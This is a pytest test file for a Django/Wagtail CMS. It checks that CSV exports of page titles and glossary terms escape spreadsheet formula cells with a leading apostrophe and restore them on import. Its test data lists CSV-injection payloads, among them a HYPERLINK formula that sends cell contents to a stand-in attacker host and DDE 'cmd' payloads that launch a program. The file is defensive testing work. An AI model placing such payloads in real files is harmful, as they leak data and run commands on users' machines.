"""No CSV the site writes holds a cell a spreadsheet would run as a formula: titles,
terms and notes starting with = + - @ (or a tab or carriage return) are written with a
leading apostrophe, in our own exports and in Wagtail's, and read back unchanged."""

import csv
import io

import pytest

from django.utils import timezone

from cms import spreadsheets
from content.exchange import glossary
from content.models import GlossaryTerm
from content.tests.editorial_helpers import member

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点此")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def raw(response):
    if not hasattr(response, "_h4_body"):
        stream = response.streaming_content if response.streaming else [response.content]
        response._h4_body = b"".join(stream)
    return response._h4_body


def cells(response):
    text = raw(response).decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def assert_inert(found, wanted):
    for cell in found:
        assert not cell.startswith(spreadsheets.TRIGGERS), f"formula cell {cell!r}"
    for value in wanted:
        assert "'" + value in found, f"{value!r} missing from the export"


@pytest.fixture
def hostile_pages(make_article):
    pages = [
        make_article("zh-hans", slug=f"hostile-{n}", title=title) for n, title in enumerate(HOSTILE)
    ]
    user = member("admin")
    type(pages[0]).objects.filter(pk__in=[p.pk for p in pages]).update(
        locked=True, locked_by=user, locked_at=timezone.now()
    )
    return pages


@pytest.mark.parametrize(
    "url",
    [
        "/admin/translations/?format=csv",
        "/admin/translations/?format=csv&language=bo",
        "/admin/reports/locked/?export=csv",
        "/admin/reports/aging-pages/?export=csv",
        "/admin/reports/site-history/?export=csv",
    ],
)
def test_page_titles_in_csv_exports_are_inert(client, hostile_pages, url):
    client.force_login(member("admin"))
    response = client.get(url)
    assert response.status_code == 200
    assert_inert(cells(response), HOSTILE)


def test_glossary_csv_export_is_inert_and_imports_back_unchanged(client, db):
    for n, value in enumerate(HOSTILE):
        GlossaryTerm.objects.create(
            key=f"hostile-{n}", term_zh_hans=value, term_bo="", term_mn="", note=value
        )
    client.force_login(member("admin"))
    response = client.get("/admin/snippets/content/glossaryterm/", {"export": "csv"})
    assert response.status_code == 200
    found = cells(response)
    assert_inert(found, HOSTILE)
    result = glossary.read(raw(response))
    read_back = {key: values for key, values in result.rows}
    for n, value in enumerate(HOSTILE):
        assert read_back[f"hostile-{n}"]["note"] == glossary.normalise(value)


@pytest.mark.parametrize("value", [*HOSTILE, "鼠兔", "", "O'Neil", "'already", "1-2", "a=b"])
def test_neutralise_and_restore_round_trip(value):
    written = spreadsheets.neutralise(value)
    assert not written.startswith(spreadsheets.TRIGGERS)
    assert spreadsheets.restore(written) == value
    assert spreadsheets.neutralise(42) == 42 and spreadsheets.neutralise(-1) == -1
